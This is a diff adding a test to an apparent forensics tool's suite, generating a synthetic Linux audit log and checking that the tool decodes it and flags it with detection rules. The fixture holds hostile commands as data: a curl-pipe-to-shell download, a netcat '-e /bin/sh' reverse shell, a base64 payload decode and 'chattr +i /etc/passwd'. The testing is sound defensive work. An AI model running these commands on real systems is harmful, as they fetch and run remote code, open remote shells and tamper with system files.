@@ -295,3 +295,84 @@ ours() {
 	[ "$(sqlite3 c.db "SELECT time, tz FROM log_lines")" = "$(python3 -c 'import calendar; print(calendar.timegm((2024,7,2,3,4,5))*10**6)')|UTC (no zone found)" ]
 	sqlite3 c.db "SELECT message FROM log" | grep -q 'no time zone file on the target'
 }
+
+# gen_audit FILE: an audit log with downloads run by a shell (hex
+# encoded), base64, netcat -e, chattr +i, interleaved events, a long
+# argument split in pieces, an ENRICHED record and a line of garbage
+gen_audit() {
+	python3 - "$1" <<-'PY'
+	import sys
+	def hx(s):
+	    return s.encode().hex().upper()
+	def ex(serial, t, args, split=None):
+	    out = ["type=SYSCALL msg=audit(%s:%d): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=0 items=1 ppid=1 pid=%d auid=1000 uid=0 gid=0 euid=0 ses=3 tty=pts0 comm=\"x\" exe=\"/usr/bin/x\" key=(null)" % (t, serial, 500 + serial)]
+	    parts = []
+	    for i, a in enumerate(args):
+	        if split == i:
+	            h = hx(a)
+	            parts.append("a%d_len=%d" % (i, len(h)))
+	            parts += ["a%d[%d]=%s" % (i, k, h[k * 40:(k + 1) * 40]) for k in range((len(h) + 39) // 40)]
+	        elif " " in a or '"' in a:
+	            parts.append("a%d=%s" % (i, hx(a)))
+	        else:
+	            parts.append('a%d="%s"' % (i, a))
+	    out.append("type=EXECVE msg=audit(%s:%d): argc=%d %s" % (t, serial, len(args), " ".join(parts)))
+	    out.append("type=PROCTITLE msg=audit(%s:%d): proctitle=%s" % (t, serial, "00".join(hx(a) for a in args)))
+	    return out
+	L = []
+	L += ex(10, "1700000000.100", ["sh", "-c", "curl -s http://203.0.113.5/x.sh | sh"])
+	L += ex(11, "1700000001.200", ["base64", "-d", "/tmp/p.b64"])
+	a = ex(12, "1700000002.300", ["nc", "-e", "/bin/sh", "198.51.100.2", "4444"])
+	b = ex(13, "1700000002.301", ["chattr", "+i", "/etc/passwd"])
+	L += [a[0], b[0], a[1], b[1], a[2], b[2]]
+	L.append("type=EOE msg=audit(1700000002.301:13): ")
+	L += ex(14, "1700000003.000", ["printf", "x" * 300], split=1)
+	L.append("this is not an audit record")
+	L.append("type=USER_LOGIN msg=audit(1700000004.500:15): pid=9 uid=0 auid=1000 ses=4 msg='op=login acct=\"al\" exe=\"/usr/sbin/sshd\" hostname=203.0.113.5 addr=203.0.113.5 terminal=ssh res=success'\x1dUID=\"root\" AUID=\"al\"")
+	open(sys.argv[1], "w").write("\n".join(L) + "\n")
+	PY
+}
+
+# audit_csv FILE: ausearch's events (no -i): type, UTC date and time,
+# serial, result; sorted
+audit_csv() {
+	TZ=UTC ausearch -if "$1" --format csv 2>/dev/null | tail -n +2 |
+		awk -F, '{ print $2 "|" $3 " " $4 "|" $5 "|" $12 }' | sort
+}
+
+@test "logs: audit events grouped as ausearch groups them, hex decoded, ENRICHED kept" {
+	command -v ausearch >/dev/null || skip "no ausearch"
+	mkdir -p "$R/var/log/audit"
+	cp "$IRKIT_SRC/tests/data/logs/audit_enriched.log" "$R/var/log/audit/audit.log.1"
+	gen_audit "$R/var/log/audit/audit.log"
+	image "$R" "$SCRATCH/c.db"
+	for f in audit.log audit.log.1; do
+		audit_csv "$R/var/log/audit/$f" > want
+		sqlite3 c.db "SELECT event_type, strftime('%m/%d/', time / 1000000, 'unixepoch') || substr(strftime('%Y %H:%M:%S', time / 1000000, 'unixepoch'), 3), serial, result FROM audit_events WHERE path = '/var/log/audit/$f'" | sort > got
+		diff want got
+	done
+	# the process titles as ausearch -i decodes them
+	TZ=UTC ausearch -if "$R/var/log/audit/audit.log.1" -i 2>/dev/null |
+		sed -n 's/^type=PROCTITLE msg=audit(.*:\([0-9]*\)) : proctitle=\(.*\) $/\1|\2/p' | sort > want
+	sqlite3 c.db "SELECT serial, proctitle FROM audit_events WHERE proctitle IS NOT NULL AND path = '/var/log/audit/audit.log.1'" | sort > got
+	diff want got
+	# argv decoded, a split argument joined, interleaved events apart
+	[ "$(sqlite3 c.db "SELECT argv FROM audit_events WHERE serial = 10")" = "sh -c curl -s http://203.0.113.5/x.sh | sh" ]
+	[ "$(sqlite3 c.db "SELECT argv FROM audit_events WHERE serial = 14")" = "printf $(printf 'x%.0s' $(seq 300))" ]
+	[ "$(sqlite3 c.db "SELECT record_types FROM audit_events WHERE serial = 12")" = "SYSCALL,EXECVE,PROCTITLE" ]
+	[ "$(sqlite3 c.db "SELECT pid, auid, acct, addr, terminal, result, json_extract(record, '\$.enriched.AUID') FROM audit_events WHERE serial = 15")" = "9|1000|al|203.0.113.5|ssh|success|al" ]
+	# SYSCALL's a0..a3 are registers, kept as written
+	[ "$(sqlite3 c.db "SELECT json_extract(record, '\$.records[0].fields.a0') FROM audit_events WHERE serial = 10")" = 55d0 ]
+	sqlite3 c.db "SELECT message FROM log WHERE path = '/var/log/audit/audit.log'" | grep -q '1 lines that are not audit records skipped'
+	# the findings of the registry's rules
+	run "$ANALYZE" findings --db "$SCRATCH/c.db"
+	echo "$output"
+	for t in 'download run by a shell (audit)' 'base64 decoded (audit)' 'netcat with -e, a reverse shell (audit)' 'file made immutable (audit)'; do
+		echo "$output" | grep -qF "$t"
+	done
+	[ "$(echo "$output" | grep -c '(audit)')" -eq 4 ]
+	# the same log again (a rotation copied by hand): nothing doubles
+	cp "$R/var/log/audit/audit.log" "$R/var/log/audit/audit.log-20231114"
+	image "$R" "$SCRATCH/d.db"
+	[ "$(sqlite3 d.db "SELECT count(*) FROM audit_events")" -eq "$(sqlite3 c.db "SELECT count(*) FROM audit_events")" ]
+}
